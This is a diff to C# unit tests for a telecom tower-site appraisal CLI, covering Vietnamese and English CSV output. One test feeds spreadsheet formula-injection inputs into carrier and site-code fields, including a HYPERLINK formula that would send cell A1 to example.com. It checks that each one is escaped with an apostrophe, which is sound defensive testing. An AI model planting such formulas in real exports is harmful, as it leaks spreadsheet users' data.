@@ -1,4 +1,5 @@
 using System.Text.Json;
+using System.Text.RegularExpressions;
 
 namespace TelecomGis.Cli.Tests;
 
@@ -110,6 +111,56 @@ public class AppraiseCommandTests
     }
 
     [Fact]
+    public void TheResultsFileIsInVietnameseWithoutCodesOrHashes_AndNoCellRunsAsAFormula()
+    {
+        var dir = CliRunner.NewTempDir();
+        var input = Write(
+            dir,
+            "seed.csv",
+            string.Join(
+                '\n',
+                Header,
+                "Viettel,MC-33,107.97826,21.53008,A2b,33,no,",
+                "Viettel,\"=HYPERLINK(\"\"http://example.com/?\"\"&A1)\",107.0800,20.9500,A1a,12,no,",
+                "@SUM(1+1),-2+3,107.0810,20.9510,A1a,12,no,"
+            ) + "\n"
+        );
+        var output = Path.Combine(dir, "ket-qua.csv");
+        Assert.Equal(0, CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output).ExitCode);
+
+        var lines = File.ReadAllLines(output);
+        Assert.Equal(
+            "Dòng,Doanh nghiệp,Mã trạm,Kinh độ,Vĩ độ,Kết quả thẩm định,Quy định không đạt hoặc cần xin ý kiến,Lý do,Mã xã,\"Xã, phường\",Quy hoạch",
+            lines[0]
+        );
+        Assert.Equal(
+            "1,Viettel,MC-33,107.9782600,21.5300800,Cần xin ý kiến cơ quan có thẩm quyền,\"Khu vực quân sự, an ninh (R04)\","
+                + "\"[R04] Vị trí nằm trong khu vực quân sự Hải Hòa (Móng Cái): cần xin ý kiến Bộ Chỉ huy Quân sự tỉnh Quảng Ninh "
+                + "(Luật Quản lý, bảo vệ công trình quốc phòng và khu quân sự 25/2023/QH15).\",06712,Phường Móng Cái 1,"
+                + "\"Quy hoạch hạ tầng kỹ thuật viễn thông thụ động tỉnh Quảng Ninh (dữ liệu mẫu), Quyết định số 1234/QĐ-UBND ngày 15/06/2023\"",
+            lines[1]
+        );
+        var text = string.Join('\n', lines);
+        Assert.DoesNotMatch("[0-9a-f]{12}", text);
+        Assert.DoesNotMatch("conforms|needs_consultation|rejected|reasons", text);
+
+        // A carrier's text that starts like a formula gets an apostrophe, which Excel shows as text, in either language.
+        var vi = ReadCsv(output);
+        Assert.Equal("'=HYPERLINK(\"http://example.com/?\"&A1)", vi[1]["Mã trạm"]);
+        Assert.Equal("'@SUM(1+1)", vi[2]["Doanh nghiệp"]);
+        Assert.Equal("'-2+3", vi[2]["Mã trạm"]);
+        Assert.Equal(
+            0,
+            CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output, "--lang", "en").ExitCode
+        );
+        var en = ReadCsv(output);
+        Assert.Equal("'=HYPERLINK(\"http://example.com/?\"&A1)", en[1]["site_code"]);
+        Assert.Equal("'@SUM(1+1)", en[2]["carrier"]);
+        Assert.Equal("needs_consultation", en[0]["verdict"]);
+        Assert.Equal(64, en[0]["plan_version"].Length);
+    }
+
+    [Fact]
     public void TheReportPeriodsBatchOf279IsAppraisedEndToEndWithTheCountsPrinted()
     {
         var dir = CliRunner.NewTempDir();
@@ -187,7 +238,7 @@ public class AppraiseCommandTests
             ) + "\n"
         );
         var output = Path.Combine(dir, "out.csv");
-        var r = CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output);
+        var r = CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output, "--lang", "en");
         Assert.Equal(0, r.ExitCode);
         var rows = ReadCsv(output).ToDictionary(x => x["site_code"]);
         Assert.Equal("rejected", rows["BAD-1"]["verdict"]);
@@ -199,7 +250,18 @@ public class AppraiseCommandTests
         Assert.Contains("swapped", rows["SWAP-1"]["reasons_en"]);
         Assert.NotEqual("rejected", rows["OK-1"]["verdict"]);
         Assert.NotEqual("rejected", rows["DMS-1"]["verdict"]);
-        // In Vietnamese by default: the count, and each rejected row with its row, column and reason.
+
+        // In Vietnamese by default: the file gives the rejection in words with the row and the field, not the field's code; the count
+        // and each rejected row's reason are printed.
+        r = CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output);
+        Assert.Equal(0, r.ExitCode);
+        var vi = ReadCsv(output).ToDictionary(x => x["Mã trạm"]);
+        Assert.Equal("Bị loại (dữ liệu lỗi)", vi["BAD-1"]["Kết quả thẩm định"]);
+        Assert.StartsWith("Dòng 2, trường kinh độ: ", vi["BAD-1"]["Lý do"]);
+        Assert.StartsWith("Dòng 3, ", vi["BAD-2"]["Lý do"]);
+        Assert.Contains("\"B3\"", vi["BAD-2"]["Lý do"]);
+        Assert.Equal("", vi["BAD-1"]["Quy hoạch"]);
+        Assert.NotEqual("Bị loại (dữ liệu lỗi)", vi["OK-1"]["Kết quả thẩm định"]);
         Assert.Contains("4 bị loại", r.Stderr);
         Assert.Contains("bị loại: Dòng ", r.Stderr);
     }
@@ -216,8 +278,8 @@ public class AppraiseCommandTests
         var output = Path.Combine(dir, "out.csv");
         Assert.Equal(0, CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output).ExitCode);
         var row = Assert.Single(ReadCsv(output));
-        Assert.Equal("needs_consultation", row["verdict"]);
-        Assert.Equal(107.97826, double.Parse(row["lon"], System.Globalization.CultureInfo.InvariantCulture), 6);
+        Assert.Equal("Cần xin ý kiến cơ quan có thẩm quyền", row["Kết quả thẩm định"]);
+        Assert.Equal(107.97826, double.Parse(row["Kinh độ"], System.Globalization.CultureInfo.InvariantCulture), 6);
     }
 
     [Fact]
@@ -274,12 +336,27 @@ public class AppraiseCommandTests
         var output = Path.Combine(dir, "out.csv");
         Assert.Equal(0, CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output, "--where").ExitCode);
         var rows = ReadCsv(output);
-        Assert.Contains("conforming_distance_m", rows[0].Keys);
-        var found = rows.Where(x => x["conforming_distance_m"].Length > 0).ToList();
+        const string Distance = "Khoảng cách đến điểm phù hợp (m)";
+        var found = rows.Where(x => x[Distance].Length > 0).ToList();
         Assert.NotEmpty(found);
         Assert.All(found, x =>
-            Assert.InRange(double.Parse(x["conforming_distance_m"], System.Globalization.CultureInfo.InvariantCulture), 0, 1000)
+        {
+            Assert.Equal("Không phù hợp quy hoạch", x["Kết quả thẩm định"]);
+            Assert.InRange(double.Parse(x[Distance], System.Globalization.CultureInfo.InvariantCulture), 0, 1000);
+        });
+        // Nearby features by their codes and distances: "PP-0293 (773 m); PP-0067 (804 m)".
+        Assert.Contains(rows, x => Regex.IsMatch(x["Vị trí quy hoạch gần đó"], @"^PP-\d+ \(\d+ m\)(; PP-\d+ \(\d+ m\))*$"));
+
+        // In English, the columns programs have read.
+        Assert.Equal(
+            0,
+            CliRunner
+                .Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output, "--where", "--lang", "en")
+                .ExitCode
         );
+        var en = ReadCsv(output);
+        Assert.Equal(found.Count, en.Count(x => x["conforming_distance_m"].Length > 0));
+        Assert.Contains(en, x => Regex.IsMatch(x["planned_positions_nearby"], @"^PP-\d+@\d+m(\|PP-\d+@\d+m)*$"));
     }
 }
 
